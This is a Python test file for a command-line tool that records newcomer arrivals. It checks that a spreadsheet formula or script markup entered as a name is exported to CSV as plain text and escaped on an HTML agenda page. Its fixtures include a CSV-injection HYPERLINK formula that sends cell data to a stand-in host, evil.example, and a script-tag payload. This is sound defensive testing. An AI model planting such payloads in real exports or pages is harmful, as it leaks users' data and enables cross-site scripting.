"""Names are data, never code: a formula in a name comes back from a CSV export as text a
spreadsheet does not run (OWASP, CSV injection), and markup in a name is shown on a page as
the characters it is."""

import csv
import io
import json
from pathlib import Path

import pytest
from sqlmodel import Session

from cli.main import main
from tests.utils.factories import arrival_data

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
SCRIPT = "<script>alert(1)</script>"


def _launch(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / f"{len(name)}.json"
    path.write_text(json.dumps(arrival_data(name=name, arrival_date="2027-03-01",
                                            move_in_date=None)))  # fmt: skip
    assert main(["launch", str(path), "--cohort", "hostile-2027"]) == 0
    capsys.readouterr()


@pytest.mark.parametrize("command", [["cohort", "hostile-2027", "--csv"],
                                     ["agenda", "2027-03-01", "--csv"]])  # fmt: skip
def test_a_formula_in_a_name_is_exported_as_text(
    office: Session, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    _launch(tmp_path, FORMULA, capsys)
    assert main(command) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and {row["newcomer"] for row in rows} == {"'" + FORMULA}


def test_markup_in_a_name_is_shown_as_text_on_the_agenda_page(
    office: Session, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _launch(tmp_path, SCRIPT, capsys)
    page = tmp_path / "day.html"
    assert main(["agenda", "2027-03-01", "--html", str(page)]) == 0
    html = page.read_text()
    assert SCRIPT not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
